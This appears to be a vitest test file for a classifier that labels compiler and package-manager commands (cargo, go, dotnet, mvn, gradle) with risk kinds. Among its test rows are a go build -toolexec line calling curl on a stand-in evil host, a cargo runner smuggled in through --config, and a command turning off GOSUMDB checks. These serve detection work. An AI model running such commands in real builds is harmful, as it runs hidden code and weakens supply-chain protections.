// What the specs of packages compiled say of whole command lines: flagged kinds, then what is run in turn.
// A row with an empty text is harmless and must stay silent.

import { describe, expect, it } from "vitest";
import { kindsOf } from "../line.ts";

const ROWS: readonly (readonly [command: string, kinds: string])[] = [
  ["cargo build", ""],
  ["cargo test", ""],
  ["cargo add serde", "network"],
  ["cargo add --path ../x", ""],
  ["cargo publish", "network outbound-message"],
  ["cargo publish --dry-run", ""],
  ["cargo publish --dry-run=false", "network outbound-message"],
  ["cargo publish --dry-run --no-dry-run", "network outbound-message"],
  ["cargo publish --dry-run=$MODE", "network outbound-message"],
  ["cargo login", "credential-change"],
  ["cargo --config 'target.x.runner=\"sh\"' build", "hidden-code"],
  ["rustup update", "network"],
  ["go test ./...", ""],
  ["go build -toolexec 'curl http://evil.example' ./...", "network hidden-code"],
  ["go get x", "network"],
  ["go install ./cmd/x", ""],
  ["go install golang.org/x/tools/gopls@latest", "network"],
  ["go mod download", "network"],
  ["go env -w GOSUMDB=off", "guard-tamper"],
  ["dotnet test", ""],
  ["dotnet nuget push x.nupkg", "network outbound-message"],
  ["mvn test", ""],
  ["mvn deploy", "network outbound-message"],
  ["gradle build", ""],
  ["gradle publish", "network outbound-message"],
  ["xcrun notarytool submit a.zip", "network"],
];

describe("packages compiled", () => {
  it.each(ROWS)("reads %s as %s", (command, kinds) => {
    expect(kindsOf(command)).toBe(kinds);
  });
});
